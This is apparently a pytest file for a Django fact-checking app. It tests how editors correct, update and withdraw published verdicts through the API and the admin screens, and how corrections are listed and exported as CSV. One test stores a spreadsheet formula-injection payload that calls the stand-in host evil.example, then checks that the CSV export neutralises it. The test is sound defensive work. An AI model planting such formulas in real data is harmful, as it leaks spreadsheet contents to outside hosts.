"""The doors to corrections: the claim's move endpoints, the corrections list in the API and the
dashboard (filterable, exportable as CSV), the editor's correction screen."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from claims.models import Claim, ClaimState, Correction, CorrectionKind, Rating
from tests import factories
from tests.conftest import submit_review
from verification import services

pytestmark = pytest.mark.django_db


def move_url(claim: Claim, move: str) -> str:
    return f"/api/v1/claims/{claim.pk}/{move}/"


def test_an_editor_corrects_through_the_api_and_the_claim_shows_the_new_verdict(
    api, published_claim, other_editor
):
    response = api(other_editor).post(
        move_url(published_claim, "correct"),
        {"rating": "mostly_true", "note": "The figure is for two years."},
        format="json",
    )

    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["state"], body["published_rating"]) == ("published", "mostly_true")
    correction = Correction.objects.get()
    assert (correction.kind, correction.note) == (
        CorrectionKind.CORRECTION,
        "The figure is for two years.",
    )


@pytest.mark.parametrize(
    ("move", "body", "field"),
    [
        ("correct", {"rating": "false"}, "note"),
        ("correct", {"rating": "false", "note": " "}, "note"),
        ("update-verdict", {"note": "Typo."}, "summary"),
        ("withdraw", {}, "note"),
    ],
)
def test_a_change_without_its_public_note_is_a_400_and_changes_nothing(
    api, published_claim, other_editor, move, body, field
):
    response = api(other_editor).post(move_url(published_claim, move), body, format="json")

    assert response.status_code == 400, response.content
    assert field in response.json()["error"]["fields"]
    claim = Claim.objects.get(pk=published_claim.pk)
    assert (claim.state, claim.published_rating, Correction.objects.count()) == (
        ClaimState.PUBLISHED,
        Rating.TRUE,
        0,
    )


def test_a_reviewer_may_not_correct_and_an_unpublished_claim_is_a_409(
    api, published_claim, reviewer, editor
):
    note = {"rating": "false", "note": "No."}
    assert api(reviewer).post(move_url(published_claim, "correct"), note).status_code == 403
    unpublished = factories.ClaimFactory()
    refused = api(editor).post(move_url(unpublished, "correct"), note, format="json")
    assert refused.status_code == 409
    assert "only a published verdict is corrected" in refused.json()["error"]["message"]


def test_withdraw_and_update_through_the_api(api, published_claim, editor):
    updated = api(editor).post(
        move_url(published_claim, "update-verdict"),
        {"summary": "The budget table, page 4.", "note": "Added the page."},
        format="json",
    )
    assert updated.status_code == 200, updated.content
    assert updated.json()["published_summary"] == "The budget table, page 4."

    withdrawn = api(editor).post(
        move_url(published_claim, "withdraw"), {"note": "Satire, not a claim."}, format="json"
    )
    assert withdrawn.status_code == 200, withdrawn.content
    assert (withdrawn.json()["state"], withdrawn.json()["published_rating"]) == (
        "dismissed",
        None,
    )
    kinds = [c.kind for c in Correction.objects.order_by("made_at", "pk")]
    assert kinds == [CorrectionKind.UPDATE, CorrectionKind.WITHDRAWAL]


def test_the_corrections_list_filters_by_kind_and_claim(api, published_claim, editor, reviewer):
    services.claim_update(
        actor=editor, claim=published_claim, summary="Page 4.", note="Added the page."
    )
    services.claim_correct(
        actor=editor, claim=published_claim, rating=Rating.MIXED, note="A second source."
    )

    listed = api(reviewer).get("/api/v1/corrections/").json()["results"]
    assert [(c["kind"], c["previous_rating"], c["rating"]) for c in listed] == [
        ("correction", "true", "mixed"),
        ("update", "true", "true"),
    ]
    assert listed[0]["made_by"] == "editor"
    only = api(editor).get("/api/v1/corrections/", {"kind": "update"}).json()["results"]
    assert [c["note"] for c in only] == ["Added the page."]
    other = api(editor).get("/api/v1/corrections/", {"claim": published_claim.pk + 1000})
    assert other.json()["results"] == []
    assert api(editor).get("/api/v1/corrections/", {"kind": "typo"}).status_code == 400


def test_the_dashboard_lists_corrections_and_exports_them_as_csv_with_formulas_inert(
    client, published_claim, editor
):
    services.claim_correct(
        actor=editor,
        claim=published_claim,
        rating=Rating.MIXED,
        note='=HYPERLINK("http://evil.example/?"&A1,"ok")',
    )
    client.force_login(editor)
    url = reverse("admin:claims_correction_changelist")

    page = client.get(url, {"kind__exact": "correction"})
    assert page.status_code == 200
    assert "HYPERLINK" in page.content.decode()
    exported = client.post(
        url,
        {
            "action": "export_csv",
            "_selected_action": list(Correction.objects.values_list("pk", flat=True)),
        },
    )
    assert exported.status_code == 200
    assert exported["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert len(rows) == 1
    assert rows[0]["note"].startswith("'=HYPERLINK")
    assert (rows[0]["previous_rating"], rows[0]["rating"], rows[0]["made_by"]) == (
        "true",
        "mixed",
        "editor",
    )


def test_the_correction_screen_corrects_and_refusals_show_on_the_form(
    client, published_claim, other_editor
):
    client.force_login(other_editor)
    url = reverse("admin:claims_claim_correct", args=[published_claim.pk])
    change_page = client.get(reverse("admin:claims_claim_change", args=[published_claim.pk]))
    assert url in change_page.content.decode()

    shown = client.get(url)
    assert shown.status_code == 200
    assert "What the public reads now" in shown.content.decode()

    refused = client.post(url, {"kind": "correction", "rating": "true", "summary": "", "note": "x"})
    assert refused.status_code == 200
    assert "Nothing was changed" in refused.content.decode()
    assert Correction.objects.count() == 0

    done = client.post(
        url,
        {"kind": "correction", "rating": "mostly_false", "summary": "", "note": "Wrong year."},
    )
    assert done.status_code == 302
    correction = Correction.objects.get()
    assert (correction.rating, correction.made_by) == (Rating.MOSTLY_FALSE, other_editor)

    withdrawn = client.post(url, {"kind": "withdrawal", "rating": "true", "note": "Satire."})
    assert withdrawn.status_code == 302
    assert Claim.objects.get(pk=published_claim.pk).state == ClaimState.DISMISSED


def test_a_reviewer_cannot_open_the_correction_screen(client, published_claim, reviewer):
    client.force_login(reviewer)
    url = reverse("admin:claims_claim_correct", args=[published_claim.pk])
    assert client.get(url).status_code == 403


def test_the_signoff_screen_asks_a_reopened_claim_for_its_public_correction_note(
    client, published_claim, editor, other_editor, second_reviewer
):
    services.claim_reopen(actor=editor, claim=published_claim, reason="New figures.")
    assignment = services.assignment_create(
        actor=editor, claim=published_claim, reviewer=second_reviewer
    )
    submit_review(
        second_reviewer,
        assignment,
        "mostly_true",
        "moderate",
        "The new table differs.",
        list(published_claim.evidence.all()),
    )
    client.force_login(other_editor)
    url = reverse("admin:claims_claim_signoff", args=[published_claim.pk])
    assert "Public correction note" in client.get(url).content.decode()
    form = {
        "action": "publish",
        "publish-rating": "mostly_true",
        "publish-summary": "Two years, not one.",
    }

    refused = client.post(url, form)
    assert refused.status_code == 200
    assert "correction_note" in refused.context["publish_form"].errors
    assert Claim.objects.get(pk=published_claim.pk).state == ClaimState.IN_REVIEW

    done = client.post(url, {**form, "publish-correction_note": "The table covers two years."})
    assert done.status_code == 302
    correction = Correction.objects.get()
    assert (correction.kind, correction.previous_rating, correction.rating) == (
        CorrectionKind.CORRECTION,
        Rating.TRUE,
        Rating.MOSTLY_TRUE,
    )


def test_a_first_signoff_has_no_correction_note(client, claim_in_review, other_editor):
    client.force_login(other_editor)
    url = reverse("admin:claims_claim_signoff", args=[claim_in_review.pk])
    assert "Public correction note" not in client.get(url).content.decode()
